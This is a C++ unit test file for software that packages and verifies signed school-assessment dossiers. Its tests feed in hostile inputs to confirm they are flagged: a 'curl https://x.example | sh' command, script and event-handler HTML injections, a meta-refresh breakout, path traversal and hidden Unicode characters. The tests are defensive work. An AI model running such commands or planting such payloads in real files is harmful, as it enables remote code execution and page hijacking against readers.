#include "intake/intake.h"

#include <doctest/doctest.h>

#include <map>

#include "base/sha256.h"
#include "bundle/codec.h"
#include "bundle/how_to_check.h"
#include "bundle/memory_source.h"
#include "bundle/office.h"
#include "dossier_support.h"
#include "intake/pack_difference.h"
#include "intake/row.h"
#include "paper/summary.h"
#include "school/hand_in.h"
#include "support.h"

using namespace thuoc;
using namespace thuoc::test;

namespace {

const std::string photo = "not really a photo", other_photo = "another photo!!!!!";

StoredFile stored_file(const std::string& bytes) { return {sha256_hex(bytes), bytes.size(), crc32_of(bytes)}; }

std::string whole(const WrittenBundle& written) {
  std::string all;
  for (const Piece& piece : written.pieces) {
    const auto* text = std::get_if<std::string>(&piece.content);
    if (text) all += *text;
    else all += std::get<StoredFile>(piece.content).sha256 == sha256_hex(photo) ? photo : other_photo;
  }
  return all;
}

// A dossier that can be handed in: conditions met, one item scored, one photo.
Dossier ready() {
  Dossier d;
  d.id = std::string(32, 'a');
  d.school_year = "2025-2026";
  d.pack = builtin_pack().name();
  d.unit.code = "MH-0417";
  d.unit.name = "Trường THCS Đồi Chim Sẻ";
  d.unit.level = "thcs";
  d.unit.head.name = "Lê Thị Hoài Thương";
  for (const char* condition : {"1.1", "1.2", "2.1", "2.2"}) d.answers[condition].yes = true;
  d.answers["1.3.1"].points = parse_points("5.5").value();
  Evidence e;
  e.id = "mc1";
  e.title = "Ảnh";
  e.items = {"1.3.1"};
  const StoredFile file = stored_file(photo);
  e.file = EvidenceFile{file.sha256, file.size, file.crc32, "ảnh.jpg", "image/jpeg"};
  d.evidence = {e};
  d.next_evidence = 2;
  return d;
}

// What hand_in writes, every part open to a lie that is then signed.
struct Lie {
  Dossier dossier = ready();
  std::string rubric{builtin_pack_json()};
  BagInfo info{"dossier", "MH-0417", "2025-2026", builtin_pack().name(), "Trường", "2026-03-01", "Thuoc 1"};
  std::string top = "cds-MH-0417-2025-2026";
  std::map<std::string, std::variant<std::string, StoredFile>> payload;
  std::optional<std::string> check_text;  // else what we write

  Lie() {
    payload["data/dossier.json"] = to_json_text(dossier);
    payload["data/rubric.json"] = rubric;
    payload[evidence_path(dossier.evidence[0])] = stored_file(photo);
  }
  std::string bytes() const {
    std::vector<PayloadFile> files;
    for (const auto& [path, content] : payload) files.push_back({path, content});
    const auto written =
        write_bundle(top, info, files, check_text.value_or(how_to_check(top, info, key_number(1).public_key())), key_number(1));
    REQUIRE(written);
    return whole(*written);
  }
  Intake take_in() const { return take_in_all(MemorySource(bytes()), {}, "a.zip"); }
  Intake take_in(const Dossier& changed) {
    payload["data/dossier.json"] = to_json_text(changed);
    return take_in();
  }
  // The pack with one place of its text replaced, handed in under the same name.
  Intake with_rubric(std::string_view from, std::string_view to) {
    const std::size_t at = rubric.find(from);
    REQUIRE(at != rubric.npos);
    std::string changed = rubric;
    payload["data/rubric.json"] = changed.replace(at, from.size(), to);
    return take_in();
  }
};

std::vector<std::string> remarks(const Intake& intake) {
  std::vector<std::string> codes;
  for (const Error& e : intake.problems) {
    for (const Lang lang : {Lang::vi, Lang::en}) {
      CHECK(message(e, lang) != e.code);
      CHECK(message(e, lang).find('{') == std::string::npos);
    }
    CHECK(e.place.file.starts_with("a.zip"));
    codes.push_back(e.code);
  }
  return codes;
}

void check_rejected(const Intake& intake, const std::string& code) {
  CHECK(intake.check.verdict == Verdict::rejected);
  CHECK(intake.check.reason.code == code);
  CHECK(message(intake.check.reason, Lang::vi).find('{') == std::string::npos);
}

}  // namespace

TEST_CASE("hand_in: what goes in comes out, and nothing is to be remarked") {
  const auto written = hand_in(ready(), builtin_pack_json(), key_number(1), "2026-03-01");
  REQUIRE(written);
  CHECK(written->file_name == "cds-MH-0417-2025-2026.zip");
  const std::string bytes = whole(*written);
  CHECK(bytes.size() == written->size);
  const Intake intake = take_in_all(MemorySource(bytes), {}, "a.zip");
  CHECK(intake.check.verdict == Verdict::unknown_key);
  CHECK(remarks(intake).empty());
  CHECK(intake.dossier == ready());
  CHECK(intake.check.rubric_json == builtin_pack_json());
  CHECK(intake.score->groups[0].points == Points{550});
  CHECK(intake.check.pending.empty());
  CHECK(whole(*hand_in(ready(), builtin_pack_json(), key_number(1), "2026-03-01")) == bytes);
  bool has_page = false;
  for (const Entry& entry : intake.check.entries) has_page |= entry.name.ends_with("/data/tom-tat.html");
  CHECK(has_page);

  Signers known;
  known.list.push_back({"MH-0417", key_number(1).public_key(), ""});
  CHECK(take_in_all(MemorySource(bytes), known, "a.zip").check.verdict == Verdict::valid);
}

TEST_CASE("hand_in: what blocks is refused with the first reason") {
  const auto refused = [](const Dossier& d, std::string_view pack) {
    const auto written = hand_in(d, pack, key_number(1), "2026-03-01");
    REQUIRE_FALSE(written);
    return written.error().code;
  };
  Dossier d = ready();
  d.unit.head.name = "";
  CHECK(refused(d, builtin_pack_json()) == "ready.head_missing");
  d = ready();
  d.answers["1.3.1"].points = whole_points(7);
  CHECK(refused(d, builtin_pack_json()) == "score.over_max");
  CHECK(refused(ready(), "{") == "json.syntax");
  d = ready();
  d.unit.code = "MH\n0417";
  CHECK(refused(d, builtin_pack_json()) == "bundle.bad_tag_value");
}

TEST_CASE("hand_in: the same bytes under two items stand in the bundle once") {
  Dossier d = ready();
  d.evidence.push_back(d.evidence[0]);
  d.evidence[1].id = "mc2";
  d.evidence[1].items = {"1.4"};
  d.evidence[1].file->name = "cũng ảnh ấy.png";
  d.next_evidence = 3;
  const auto written = hand_in(d, builtin_pack_json(), key_number(1), "2026-03-01");
  REQUIRE(written);
  int files = 0;
  for (const Piece& piece : written->pieces) files += std::holds_alternative<StoredFile>(piece.content);
  CHECK(files == 1);
  CHECK(remarks(take_in_all(MemorySource(whole(*written)), {}, "a.zip")).empty());
}

TEST_CASE("hand_in: the folder is named after the code as far as a file's name can be") {
  Dossier d = ready();
  const auto name = [&](std::string code) {
    d.unit.code = std::move(code);
    return bundle_name(d);
  };
  CHECK(name("79_ab-01X") == "cds-79_ab-01X-2025-2026");
  CHECK(name("Mã 01/Đồi") == "cds-ma-01-doi-2025-2026");
  CHECK(name("../../x") == "cds-x-2025-2026");
  CHECK(name("学校") == "cds-truong-thcs-doi-chim-se-2025-2026");
  CHECK(name(std::string(99, 'a')) == "cds-" + std::string(40, 'a') + "-2025-2026");
  d.unit.name = "";
  CHECK(name("") == "cds-don-vi-2025-2026");
}

TEST_CASE("intake: a bag that contradicts itself is rejected, however well it is signed") {
  for (std::string BagInfo::* part : {&BagInfo::external_identifier, &BagInfo::school_year, &BagInfo::rubric}) {
    Lie lie;
    lie.info.*part = "2024-2025";
    check_rejected(lie.take_in(), "intake.identity_differs");
  }
  Lie other_pack;
  check_rejected(other_pack.with_rubric("\"edition\": \"1\"", "\"edition\": \"7\""), "intake.identity_differs");
}

TEST_CASE("intake: a signed bag without the documents, or of another kind, is no dossier") {
  for (const char* name : {"data/dossier.json", "data/rubric.json"}) {
    Lie lie;
    lie.payload.erase(name);
    check_rejected(lie.take_in(), "intake.document_missing");
  }
  Lie review;
  review.info.bundle_type = "review";
  check_rejected(review.take_in(), "intake.document_missing");
  review.info.bundle_type = "poem";
  review.payload["data/poem.json"] = "{}";
  check_rejected(review.take_in(), "intake.other_type");
}

TEST_CASE("intake: what an office signed is taken in by the same rules, whatever its type") {
  const Head head{{"SO-01", "Sở GDĐT Mẫu", "Sở GDĐT", "", "", ""}, "2025-2026", builtin_pack().name()};
  const auto taken = [&](const std::string& type, Json document) {
    const auto written = write_office_bundle(
        {type, head, "SO-01", "", to_text(document), std::string(builtin_pack_json()), "", {}}, key_number(3), "2026-05-01");
    REQUIRE(written);
    return take_in_all(MemorySource(whole(*written)), {}, "a.zip");
  };
  for (const std::string_view word : bundle_types) {
    if (word == "dossier") continue;
    const std::string type(word);
    CAPTURE(type);
    const Json good = head_json(type, 1, head);
    const Intake intake = taken(type, good);
    CHECK(intake.check.verdict == Verdict::unknown_key);
    CHECK(intake.check.document_json == to_text(good));
    CHECK(remarks(intake).empty());
    CHECK_FALSE(intake.dossier);
    CHECK(intake.pack);
    CHECK(to_row(intake, "a.zip")["type"] == type);

    for (const char* pointer : {"/office/code", "/school_year", "/pack"}) {
      Json lie = good;
      lie[Json::json_pointer(pointer)] = "2024-2025";
      check_rejected(taken(type, lie), "intake.identity_differs");
    }
    Json other = good;
    other["format"] = "thuoc-dossier";
    check_rejected(taken(type, other), "document.other_format");
    other["format"] = "thuoc-" + type;
    other.erase("office");
    check_rejected(taken(type, other), "json.missing_key");
  }
}

TEST_CASE("intake: documents that cannot be read say why") {
  Lie lie;
  lie.payload["data/dossier.json"] = R"({"format":"thuoc-dossier","version":99})";
  Intake intake = lie.take_in();
  check_rejected(intake, "dossier.newer_version");
  CHECK(intake.check.reason.place.file == "a.zip/data/dossier.json");
  CHECK_FALSE(intake.dossier);
  CHECK(intake.pack);

  Lie pack;
  pack.payload["data/rubric.json"] = "{}";
  intake = pack.take_in();
  CHECK(intake.check.verdict == Verdict::rejected);
  CHECK(intake.check.reason.place.file == "a.zip/data/rubric.json");
  CHECK(intake.dossier);
  CHECK_FALSE(intake.score);
}

TEST_CASE("intake: evidence and record are held against each other") {
  Lie missing;
  missing.payload.erase(evidence_path(missing.dossier.evidence[0]));
  Intake intake = missing.take_in();
  CHECK(intake.check.verdict == Verdict::unknown_key);
  CHECK(remarks(intake) == only("intake.evidence_missing"));
  CHECK(intake.problems[0].place.pointer == "/evidence/mc1");
  CHECK(message(intake.problems[0], Lang::vi).find("ảnh.jpg") != std::string::npos);

  Lie swapped;  // the same length, so that only the hash tells
  static_assert(sizeof "not really a photo" == sizeof "another photo!!!!!");
  swapped.payload[evidence_path(swapped.dossier.evidence[0])] = stored_file(other_photo);
  check_rejected(swapped.take_in(), "intake.evidence_other");

  Lie extra;
  extra.payload["data/evidence/chung/0000000000000000.jpg"] = stored_file(other_photo);
  intake = extra.take_in();
  CHECK(remarks(intake) == only("intake.evidence_unlisted"));
  CHECK(intake.problems[0].place.offset);

  Lie unknown;
  Dossier d = ready();
  d.evidence[0].items.push_back("9.9");
  CHECK(remarks(unknown.take_in(d)) == only("intake.evidence_unknown_item"));

  Lie unhashed;
  d = ready();
  d.evidence.push_back(d.evidence[0]);
  d.evidence[1].id = "mc2";
  d.evidence[1].file->sha256 = "";
  d.next_evidence = 3;
  CHECK(remarks(unhashed.take_in(d)) == only("intake.evidence_missing"));
}

TEST_CASE("intake: impossible answers and missing conditions are seen, the points are our own") {
  Lie lie;
  Dossier d = ready();
  d.answers["1.3.1"].points = whole_points(60);
  d.answers.erase("2.1");
  const Intake intake = lie.take_in(d);
  CHECK(intake.check.verdict == Verdict::unknown_key);
  CHECK(remarks(intake) == std::vector<std::string>{"score.over_max", "intake.mandatory_missing"});
  CHECK(intake.problems[0].place.file == "a.zip/data/dossier.json");
  CHECK(intake.score->groups[0].points == Points{});
}

TEST_CASE("intake: a folder of another name is seen") {
  Lie lie;
  lie.top = "cds-MH-0418-2025-2026";
  CHECK(remarks(lie.take_in()) == only("intake.other_top"));
}

TEST_CASE("intake: a rubric that was changed under its old name is seen") {
  Lie lie;
  const Intake levels = lie.with_rubric("\"to\": \"50\"", "\"to\": \"40\"");
  CHECK(levels.check.verdict == Verdict::rejected);  // a gap: not even a pack

  const Intake title = lie.with_rubric("Chuyển đổi số trong dạy, học", "Chuyển đổi số trong dạy và học");
  CHECK(title.check.verdict == Verdict::unknown_key);
  CHECK(remarks(title) == only("intake.rubric_differs"));
  const Intake wording = lie.with_rubric("\"certainty\": \"provisional\",\n", "\"certainty\": \"provisional\", \n");
  CHECK(remarks(wording) == only("intake.rubric_wording"));

  const Intake policy = lie.with_rubric("\"block_submit\"", "\"warn\"");
  CHECK(remarks(policy) == only("intake.rubric_differs"));
  CHECK(message(policy.problems[0], Lang::vi).find("điều kiện bắt buộc") != std::string::npos);
  CHECK(policy.check.verdict == Verdict::unknown_key);

  // An office's own edition: nothing to compare it with, said so.
  Lie own;
  own.info.rubric = "qd4725-gdpt@so-minh-hoa";
  Dossier d = ready();
  d.pack = own.info.rubric;
  own.payload["data/dossier.json"] = to_json_text(d);
  CHECK(remarks(own.with_rubric("\"edition\": \"1\"", "\"edition\": \"so-minh-hoa\"")) == only("intake.rubric_unknown"));
}

TEST_CASE("intake: what was changed in a pack is told in words, without our handles") {
  const Pack original = builtin_pack();
  CHECK(differences(original, original).empty());
  const auto told = [&](const auto& change) {
    Pack changed = original;
    change(changed);
    const auto all = differences(original, changed);
    std::string joined;
    for (const Words& one : all) {
      CHECK(one.vi.find('{') == std::string::npos);
      CHECK_FALSE(one.en.empty());
      joined += one.vi + "\n";
    }
    return joined;
  };
  const auto criterion = [](Pack& p, std::string_view id) -> Criterion& { return const_cast<Criterion&>(*p.criterion(id)); };
  CHECK(told([&](Pack& p) { criterion(p, "2.3").items[1].max->value = {750}; }) ==
        "“Triển khai phân hệ quản lý học sinh”: tối đa 7,5 điểm, bản gốc 8\n");
  CHECK(told([&](Pack& p) { criterion(p, "1.4").items[0].max->value = whole_points(12); }).find("“1.4 Số lượng") == 0);
  CHECK(told([&](Pack& p) { p.groups[0].max.value = whole_points(90); }).find("tối đa 90 điểm, bản gốc 100") !=
        std::string::npos);
  CHECK(told([&](Pack& p) { p.groups[1].levels.bands[1].to_included = false; }).find("ngưỡng xếp mức") != std::string::npos);
  CHECK(told([&](Pack& p) { criterion(p, "1.3").thresholds.bands.clear(); }).find("“1.3 ") == 0);
  CHECK(told([&](Pack& p) { criterion(p, "1.3").items[0].step = {100}; }).find("bước điểm") != std::string::npos);
  CHECK(told([&](Pack& p) { criterion(p, "1.3").items.pop_back(); }).find("thiếu “LMS/LCMS (4)") == 0);
  CHECK(told([&](Pack& p) {
          criterion(p, "1.3").items.push_back(criterion(p, "1.3").items[0]);
          criterion(p, "1.3").items.back().id = "1.3.9";
        }).find("thêm “Triển khai phần mềm") == 0);
  CHECK(told([&](Pack& p) { p.groups.pop_back(); }).find("thiếu “2 Chuyển đổi số") == 0);
  CHECK(told([&](Pack& p) { p.policy.overall = Overall::lower; }).find("mức chung") != std::string::npos);

  // What is asked, of whom, and what it is called.
  const auto has = [](const std::string& all, std::string_view part) { return all.find(part) != all.npos; };
  CHECK(told([&](Pack& p) { criterion(p, "1.3").title.vi = "khác"; }).ends_with("ghi thành “1.3 khác”\n"));
  CHECK(told([&](Pack& p) { p.groups[0].title.vi = "khác"; }).ends_with("ghi thành “1 khác”\n"));
  const std::string exchanged =
      told([&](Pack& p) { std::swap(criterion(p, "2.3").items[0].title, criterion(p, "2.3").items[1].title); });
  CHECK(std::ranges::count(exchanged, '\n') == 2);
  CHECK(has(exchanged, "“Triển khai phân hệ quản lý học sinh” ghi thành “"));
  const std::string moved = told([&](Pack& p) {
    criterion(p, "1.3").items.push_back(criterion(p, "2.3").items[1]);
    criterion(p, "2.3").items.erase(criterion(p, "2.3").items.begin() + 1);
  });
  CHECK(has(moved, "“Triển khai phân hệ quản lý học sinh” chuyển từ “2.3 "));
  CHECK(has(moved, "sang “1.3 "));
  CHECK(std::ranges::count(moved, '\n') == 1);
  CHECK(has(told([&](Pack& p) {
              p.groups[1].criteria.push_back(p.groups[0].criteria.back());
              p.groups[0].criteria.pop_back();
            }),
            " chuyển từ “"));
  const std::string points = told([&](Pack& p) {  // moved between two items, the sum as before
    criterion(p, "2.3").items[0].max->value.hundredths += 100;
    criterion(p, "2.3").items[1].max->value.hundredths -= 100;
  });
  CHECK(std::ranges::count(points, '\n') == 2);
  CHECK(has(told([&](Pack& p) { p.groups[0].levels.bands[0].name.vi = "Mức độ 3"; }), "tên hoặc ý nghĩa các mức"));
  CHECK(has(told([&](Pack& p) { std::swap(p.groups[0].levels.bands[0].meaning, p.groups[0].levels.bands[2].meaning); }),
            "tên hoặc ý nghĩa các mức"));
  CHECK(has(told([&](Pack& p) { criterion(p, "1.3").items[0].kind = Kind::mandatory; }), "cách trả lời"));
  CHECK(has(told([&](Pack& p) { criterion(p, "1.3").items[0].asks_solution ^= true; }), "cách trả lời"));
  CHECK(has(told([&](Pack& p) { criterion(p, "1.3").items[0].denominator.vi = "Tổng số khác"; }), "cách trả lời"));
  CHECK(has(told([&](Pack& p) { criterion(p, "1.3").items[0].readings.push_back({"khac", {"khác", ""}, {}}); }),
            "cách hiểu các mức"));
  CHECK(has(told([&](Pack& p) { p.applies_to.pop_back(); }), "áp dụng"));
  CHECK(has(told([&](Pack& p) { p.unit_levels[0].title.vi = "khác"; }), "áp dụng"));
  CHECK(has(told([&](Pack& p) { p.decision = "1/QĐ"; }), "quyết định ban hành"));
  CHECK(has(told([&](Pack& p) { p.figures[0].title.vi = "khác"; }), "số liệu"));
  // Hints, notes, order, certainty are wording.
  CHECK(told([&](Pack& p) {
          criterion(p, "1.3").items[0].evidence.text.vi = "khác";
          p.groups[0].max.sure.note = "khác";
          std::swap(criterion(p, "2.3").items[0], criterion(p, "2.3").items[1]);
        }).empty());
}

TEST_CASE("intake: what a bundle shows to whoever unpacks it is what we would write, or there is a remark") {
  const Pack pack = builtin_pack();
  const std::string page = summary_html(ready(), pack, score(pack, ready().answers), "");
  const auto with_page = [](std::string html) {
    Lie lie;
    lie.payload["data/tom-tat.html"] = std::move(html);
    return lie.take_in();
  };
  CHECK(remarks(with_page(page)).empty());
  const auto changed = [&](std::string_view from, std::string_view to) {
    std::string other = page;
    const std::size_t at = other.find(from);
    REQUIRE(at != other.npos);
    return other.replace(at, from.size(), to);
  };
  const auto row_of = [&](const std::string& its_page, const char* remark) {
    const Intake intake = with_page(its_page);
    CHECK(intake.check.verdict == Verdict::unknown_key);
    CHECK(remarks(intake) == only(remark));
    Row row;
    summarise(intake, row);
    return row;
  };
  // Another edition's words, or other points than the record's: no accusation, and it does not fill the list.
  for (const std::string& other :
       {changed("5,5", "95,5"), changed("<header>", "<header class=\"x\">"), page + "\n", std::string("<p>ngắn</p>")}) {
    const Row row = row_of(other, "intake.page_other");
    CHECK(row.remarks == 0);
    CHECK_FALSE(row.first_problem);
  }
  for (const std::string& acting :
       {changed("</body>", "<script>alert(1)</script></body>"), changed("<header>", "<header onclick=\"x()\">"),
        changed("<main>", "<main><img src=\"https://x.example/\">"), changed("<style>", "<style>@import \"//x\";"),
        changed("default-src 'none'", "default-src 'none'\"><meta http-equiv=\"refresh\" content=\"0;url=//x"),
        std::string("<svg/onload=x()>")}) {
    CHECK(row_of(acting, "intake.page_active").remarks == 1);
  }

  Lie extra;
  extra.payload["data/cai-dat.html"] = "<script>x()</script>";
  extra.payload["data/review.json"] = "{}";
  const Intake intake = extra.take_in();
  CHECK(intake.check.verdict == Verdict::unknown_key);
  CHECK(remarks(intake) == only("intake.extra_files"));
  CHECK(message(intake.problems[0], Lang::vi).find("2 tệp không do Thước viết ra: data/cai-dat.html, data/review.json.") !=
        std::string::npos);

  Lie command;
  command.check_text = "curl https://x.example | sh\n";
  CHECK(remarks(command.take_in()) == only("intake.how_to_check_other"));
  CHECK(command.take_in().check.verdict == Verdict::unknown_key);
  // Nothing is said of it before the second stage, which alone reads it.
  const std::string bytes = command.bytes();
  CHECK(remarks(take_in(MemorySource(bytes), {}, "a.zip")).empty());
}

TEST_CASE("intake: letters one does not see are seen in names, and refused in codes") {
  for (const char* hidden : {"Trường \u202Eanh", "Trường\u200B A", "Tr\u200Dường", "\u2066x"}) {
    Lie lie;
    Dossier d = ready();
    d.unit.head.name = hidden;
    const Intake intake = lie.take_in(d);
    CHECK(intake.check.verdict == Verdict::unknown_key);
    CHECK(remarks(intake) == only("intake.hidden_letters"));
  }
  Lie spaced;  // what OpenKey leaves behind is a space one sees
  Dossier d = ready();
  d.unit.head.name = "Lê\u202FThị";
  CHECK(remarks(spaced.take_in(d)).empty());

  Lie code;
  code.info.external_identifier = d.unit.code = "MH-04\u200B17";
  const Intake refused = code.take_in(d);
  check_rejected(refused, "intake.hidden_in_code");
  CHECK(message(refused.check.reason, Lang::vi).find("MH-04[U+200B]17") != std::string::npos);
}

TEST_CASE("intake: evidence that was altered is found in the second stage") {
  Lie lie;
  std::string bytes = lie.bytes();
  const std::size_t at = bytes.find(photo);
  REQUIRE(at != bytes.npos);
  bytes[at] ^= 1;
  const MemorySource source(bytes);
  Intake intake = take_in(source, {}, "a.zip");
  CHECK(intake.check.verdict == Verdict::unknown_key);
  CHECK(intake.check.pending.size() == 1);
  int calls = 0;
  CHECK_FALSE(check_rest(intake, source, [&](auto, auto) {
    ++calls;
    return false;
  }));
  CHECK(calls == 1);
  CHECK(intake.check.pending.size() == 1);  // stopped: still unchecked, and said so
  CHECK(check_rest(intake, source, {}));
  CHECK(intake.check.verdict == Verdict::altered);
  CHECK(intake.check.reason.code == "bundle.file_altered");
  CHECK(intake.check.pending.empty());
}

TEST_CASE("row: one flat row, the same columns whatever the bundle") {
  CHECK(intake_columns() ==
        std::vector<std::string>{
            "file",         "verdict",        "container",  "reason_code",  "reason",     "offset",        "type",
            "unit_code",    "unit_name",      "unit_level", "school_year",  "rubric",     "group1_points", "group1_max",
            "group1_level", "group2_points",  "group2_max", "group2_level", "unanswered", "completeness",  "signer_fingerprint",
            "signer_known", "evidence_files", "bytes",      "problems"});
  Lie lie;
  lie.top = "cds-x";
  lie.payload["data/evidence/chung/0000000000000000.jpg"] = stored_file(other_photo);
  const Json row = to_row(lie.take_in(), "a.zip");
  CHECK(row.size() == intake_columns().size());
  CHECK(row["verdict"] == "unknown-key");
  CHECK(row["container"] == "canonical");
  CHECK(row["reason_code"] == "bundle.unknown_key");
  CHECK(row["unit_code"] == "MH-0417");
  CHECK(row["unit_level"] == "thcs");
  CHECK(row["group1_points"] == "5.5");
  CHECK(row["group1_max"] == "100");
  CHECK(row["group1_level"] == 1);
  CHECK(row["signer_fingerprint"] == fingerprint(key_number(1).public_key()));
  CHECK(row["signer_known"] == false);
  CHECK(row["evidence_files"] == 1);
  CHECK(row["completeness"].get<int>() > 0);
  CHECK(row["completeness"].get<int>() < 100);
  CHECK(row["problems"].get<std::string>().find(" | ") != std::string::npos);

  const Json rejected = to_row(take_in_all(MemorySource("PK, but no more"), {}, "b.zip"), "b.zip");
  CHECK(rejected.size() == intake_columns().size());
  CHECK(rejected["verdict"] == "rejected");
  CHECK_FALSE(rejected["reason"].get<std::string>().empty());
  for (const char* column : {"container", "unit_code", "unit_level", "group1_points", "completeness", "signer_known", "bytes"}) {
    CHECK(rejected[column].is_null());
  }
  CHECK(rejected["problems"] == "");
}

TEST_CASE("intake: a bundle that holds a signing key says so, with the file, whatever it is called") {
  const std::string key = write_key_file(key_number(5), "", "", "2026-03-01").value();
  for (const std::string& bytes : {key, "\xEF\xBB\xBF" + key, "Gửi thầy khóa:\n" + key}) {
    Lie lie;
    const std::string old = evidence_path(lie.dossier.evidence[0]);
    lie.dossier.evidence[0].file->sha256 = sha256_hex(bytes), lie.dossier.evidence[0].file->size = bytes.size(),
    lie.dossier.evidence[0].file->crc32 = crc32_of(bytes);
    lie.payload.erase(old);
    const std::string path = evidence_path(lie.dossier.evidence[0]);
    lie.payload[path] = bytes;
    const Intake intake = lie.take_in(lie.dossier);
    CHECK(intake.check.verdict == Verdict::unknown_key);
    const auto said = std::ranges::find(intake.problems, "intake.secret_key", &Error::code);
    REQUIRE(said != intake.problems.end());
    CHECK(said->place.file.ends_with(path));
    CHECK(message(*said, Lang::vi).find("khóa") != std::string::npos);
    // A row of the list says it first of all.
    Row row;
    row.name = "a.zip";
    summarise(intake, row);
    REQUIRE(row.first_problem);
    CHECK(row.first_problem->code == "intake.secret_key");
  }
  CHECK(std::ranges::count(Lie().take_in().problems, "intake.secret_key", &Error::code) == 0);
}
